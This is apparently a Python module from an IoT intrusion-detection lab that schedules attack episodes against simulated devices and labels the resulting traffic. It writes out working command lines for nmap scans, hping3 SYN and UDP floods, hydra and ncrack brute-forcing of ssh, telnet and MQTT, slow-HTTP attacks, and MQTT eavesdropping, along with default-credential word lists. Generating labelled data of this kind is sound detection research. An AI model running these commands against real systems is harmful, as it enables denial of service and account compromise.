"""The attack episodes of the lab: what is run, from where, against whom, when; and who writes the labels."""

from __future__ import annotations

import sys
import threading
import time
from dataclasses import dataclass
from pathlib import Path

from bench.lab import plan
from bench.lab.programs import Programs
from bench.lab.shipping import Label, gateway_id

USERS = "users.txt"
WORDS = "words.txt"
USER_NAMES = ("admin", "ubnt", "pi", "support", "service", "guest", "operator", "tech")
"""Accounts as bots try them; none exists on the recording machine."""

SLOTS = 4
"""Attacks a gateway."""


@dataclass(frozen=True, slots=True)
class Step:
    """One program of an episode.

    Attributes:
        command: Program and arguments; ``{work}`` stands for the folder with the word lists.
        share: Its share of the episode's time, from 0 to 1.
        gateways: Gateways whose segment sees its traffic.
    """

    command: tuple[str, ...]
    share: float
    gateways: frozenset[int]


@dataclass(frozen=True, slots=True)
class Episode:
    """One attack.

    Attributes:
        kind: Kind of the attack, as in the labels.
        slot: Place in the schedule, from 0.
        duration_s: Longest duration; a tool that has done its work ends sooner.
        attacker: The compromised device, or ``None`` for the outsider.
        entities: For each gateway that sees traffic, the address of its victim or compromised device.
        steps: Programs, one after the other.
    """

    kind: str
    slot: int
    duration_s: float
    attacker: plan.Device | None
    entities: dict[int, str]
    steps: tuple[Step, ...]

    @property
    def namespace(self) -> str:
        return plan.OUTSIDER_NAMESPACE if self.attacker is None else self.attacker.namespace

    @property
    def source_ip(self) -> str:
        return plan.OUTSIDER if self.attacker is None else self.attacker.ip

    @property
    def gateway(self) -> int:
        """The gateway whose time table it follows."""
        return next(iter(self.entities)) if self.attacker is None else self.attacker.gateway


def _from_outside(kind: str, slot: int, duration_s: float, victim: plan.Device, *command: str) -> Episode:
    step = Step(command, 1.0, frozenset({victim.gateway}))
    return Episode(kind, slot, duration_s, None, {victim.gateway: victim.ip}, (step,))


def _from_inside(kind: str, slot: int, duration_s: float, compromised: plan.Device, *command: str) -> Episode:
    step = Step(command, 1.0, frozenset({compromised.gateway}))
    return Episode(kind, slot, duration_s, compromised, {compromised.gateway: compromised.ip}, (step,))


def _nmap(*arguments: str) -> tuple[str, ...]:
    return ("nmap", "-n", "-Pn", "--max-retries", "0", *arguments)


def _flood(*arguments: str) -> tuple[str, ...]:
    return ("hping3", "-q", *arguments)


def _hydra(target: str) -> tuple[str, ...]:
    return ("hydra", "-I", "-L", f"{{work}}/{USERS}", "-P", f"{{work}}/{WORDS}", "-t", "4", target)


def _ncrack(target: str) -> tuple[str, ...]:
    return ("ncrack", "-U", f"{{work}}/{USERS}", "-P", f"{{work}}/{WORDS}", "-g", "CL=2,cd=250ms", target)


def _slow_http(mode: str, target: str, connections: int) -> tuple[str, ...]:
    return ("slowhttptest", mode, "-c", str(connections), "-r", "4", "-i", "4", "-l", "300", "-u", f"http://{target}/")


def _tool(*arguments: str) -> tuple[str, ...]:
    return (sys.executable, "-m", "bench.lab.attack_tools", *arguments)


def _listen() -> tuple[str, ...]:
    login = ("-u", plan.MQTT_USER, "-P", plan.MQTT_PASSWORD)
    return ("mosquitto_sub", "-h", plan.BROKER, *login, "-i", "debug-tool", "-t", "#", "-v")


def _lateral(slot: int, duration_s: float, compromised: plan.Device, other: plan.Device) -> Episode:
    """Sweeps the own segment, then another one, then tries to log in there."""
    ports = ("-sT", "-p", "22,23,80,502,1883,5683,8080", "--max-rate", "12")
    near = f"10.77.{compromised.gateway}.1-24"
    far = f"10.77.{other.gateway}.1-24"
    both = frozenset({compromised.gateway, other.gateway})
    steps = (
        Step(_nmap(*ports, near), 0.3, frozenset({compromised.gateway})),
        Step(_nmap(*ports, far), 0.35, both),
        Step(_hydra(f"{other.login}://{other.ip}"), 0.35, both),
    )
    entities = {compromised.gateway: compromised.ip, other.gateway: other.ip}
    return Episode("lateral_movement", slot, duration_s, compromised, entities, steps)


def _rogue_publisher(slot: int, duration_s: float, compromised: plan.Device, victim: plan.Device) -> Episode:
    command = _tool("forged-commands", f"{victim.topic}/command", "--rate", "9")
    entities = {compromised.gateway: compromised.ip, victim.gateway: victim.ip}
    step = Step(command, 1.0, frozenset(entities))
    return Episode("rogue_publisher", slot, duration_s, compromised, entities, (step,))


def episodes() -> tuple[Episode, ...]:
    """The whole plan: four slots a gateway, no slot of a gateway used twice."""
    at = plan.device
    outside, inside = _from_outside, _from_inside
    return (
        outside("port_scan", 0, 45, at(1, "b"), *_nmap(
            "-sS", "-p", "1-900", "--max-rate", "45", at(1, "a").ip, at(1, "b").ip)),
        outside("slow_http", 1, 50, at(1, "b"), *_slow_http("-H", at(1, "b").ip, 60)),
        _lateral(2, 58, at(1, "a"), at(2, "b")),
        outside("syn_flood", 3, 35, at(1, "b"), *_flood(
            "-S", "-p", str(plan.STREAM_PORT), "-i", "u5000", at(1, "b").ip)),

        outside("modbus_write", 0, 45, at(2, "b"), *_tool("modbus-writes", at(2, "b").ip, "--rate", "4")),
        outside("brute_force", 1, 45, at(2, "b"), *_hydra(f"ssh://{at(2, 'b').ip}")),
        inside("udp_flood", 3, 32, at(2, "a"), *_flood("--udp", "-p", "9000", "-d", "120", "-i", "u5000", plan.CLOUD)),

        inside("dns_exfiltration", 0, 50, at(3, "b"), *_tool("dns-exfiltration", plan.DNS_SERVER, "--rate", "5")),
        outside("udp_flood", 1, 35, at(3, "b"), *_flood(
            "--udp", "-p", "5683", "-d", "64", "-i", "u4500", at(3, "b").ip)),
        inside("brute_force", 3, 50, at(3, "b"), *_hydra(f"ssh://{at(3, 'a').ip}")),

        outside("syn_flood", 0, 35, at(4, "b"), *_flood(
            "-S", "--rand-source", "-p", "80", "-i", "u6000", at(4, "b").ip)),
        inside("beaconing", 1, 60, at(4, "a"), *_tool("beacon", plan.OUTSIDER, "--rate", "0.5")),
        _rogue_publisher(2, 45, at(4, "a"), at(3, "a")),
        inside("slow_http", 3, 50, at(4, "a"), *_slow_http("-B", plan.HTTP_SERVER, 50)),

        inside("rogue_subscriber", 0, 50, at(5, "a"), *_listen()),
        inside("port_scan", 2, 45, at(5, "b"), *_nmap(
            "-sT", "-p", "1-700", "--max-rate", "28", at(5, "a").ip, plan.HTTP_SERVER)),
        inside("beaconing", 3, 60, at(5, "b"), *_tool("beacon", plan.OUTSIDER, "--rate", "0.6")),

        outside("port_scan", 0, 60, at(6, "b"), *_nmap(
            "-sS", "--top-ports", "300", "--scan-delay", "350ms", at(6, "b").ip)),
        _lateral(1, 58, at(6, "a"), at(5, "b")),
        outside("rogue_publisher", 2, 45, at(6, "a"), *_tool(
            "forged-commands", f"{at(6, 'a').topic}/command", "--rate", "8")),
        inside("modbus_write", 3, 50, at(6, "a"), *_tool("modbus-writes", at(6, "b").ip, "--rate", "3")),

        inside("brute_force", 0, 45, at(7, "a"), *_ncrack(f"mqtt://{plan.BROKER}:1883")),
        inside("syn_flood", 1, 32, at(7, "b"), *_flood("-S", "-p", "80", "-i", "u5000", plan.HTTP_SERVER)),
        inside("dns_exfiltration", 2, 60, at(7, "b"), *_tool("dns-exfiltration", plan.DNS_SERVER, "--rate", "2")),
        inside("rogue_subscriber", 3, 50, at(7, "a"), *_listen()),

        outside("udp_flood", 0, 32, at(8, "a"), *_flood(
            "--udp", "-p", "1024", "-d", "32", "-i", "u4000", at(8, "a").ip)),
        inside("rogue_subscriber", 1, 45, at(8, "b"), *_listen()),
        inside("slow_http", 2, 50, at(8, "b"), *_slow_http("-X", plan.HTTP_SERVER, 50)),
        outside("brute_force", 3, 50, at(8, "b"), *_hydra(f"telnet://{at(8, 'b').ip}")),
    )  # fmt: skip


def write_word_lists(folder: Path) -> None:
    """Writes the lists of user names and pass words that the login attacks try.

    Args:
        folder: Where to.
    """
    words = [f"{word}{suffix}" for word in ("admin", "pass", "iot", "change", "home") for suffix in range(200)]
    (folder / USERS).write_text("\n".join(USER_NAMES) + "\n", encoding="ascii")
    (folder / WORDS).write_text("\n".join(words) + "\n", encoding="ascii")


class Runner:
    """Runs episodes at their times and labels them with what it knows: it never looks at a capture.

    Args:
        programs: Where attack programs run.
        work: Folder of the word lists.
    """

    def __init__(self, programs: Programs, work: Path) -> None:
        self._programs = programs
        self._work = work
        self._lock = threading.Lock()
        self.labels: list[Label] = []

    def schedule(
        self, start_s: float, slot_s: float, stagger_s: float, pace: float, take: int = 1
    ) -> list[threading.Thread]:
        """Starts one thread an episode, each of which waits for its time.

        Args:
            start_s: Epoch seconds at which slot 0 begins.
            slot_s: Distance of slots.
            stagger_s: What each gateway is later than the one before, so that attacks do not march in step.
            pace: Factor on every duration; 1 but for trials.
            take: Number of the recording; every one has the attacks of a gateway in another order.

        Returns:
            Threads to wait for.
        """
        threads = []
        for episode in episodes():
            slot = (episode.slot + take - 1) % SLOTS
            at_s = start_s + slot * slot_s + (episode.gateway - 1) * stagger_s
            thread = threading.Thread(target=self._carry_out, args=(episode, at_s, pace), daemon=True)
            thread.start()
            threads.append(thread)
        return threads

    def _carry_out(self, episode: Episode, at_s: float, pace: float) -> None:
        time.sleep(max(0.0, at_s - time.time()))
        spans: dict[int, tuple[float, float]] = {}
        told: dict[int, list[str]] = {gateway: [] for gateway in episode.entities}
        for number, step in enumerate(episode.steps):
            command = [part.replace("{work}", str(self._work)) for part in step.command]
            name = f"attack-{gateway_id(episode.gateway)}-{episode.slot}-{number}-{episode.kind}"
            begin_s = time.time()
            program = self._programs.start(episode.namespace, name, command)
            until_s = begin_s + episode.duration_s * step.share * pace
            while program.poll() is None and time.time() < until_s:
                time.sleep(0.05)
            self._programs.stop(program, patience_s=1.0)
            end_s = time.time()
            for gateway in step.gateways:
                spans[gateway] = (spans.get(gateway, (begin_s, end_s))[0], end_s)
                told[gateway].append(_public(step.command))
        with self._lock:
            self.labels += [
                Label(
                    gateway_id(gateway), "network", episode.kind, begin_s, end_s, episode.entities[gateway],
                    episode.source_ip, "; ".join(told[gateway]),
                )
                for gateway, (begin_s, end_s) in spans.items()
            ]  # fmt: skip


def _public(command: tuple[str, ...]) -> str:
    """The command as it goes into the labels: without this machine's paths."""
    text = " ".join(command).replace("{work}/", "")
    return text.replace(f"{sys.executable} -m ", "")
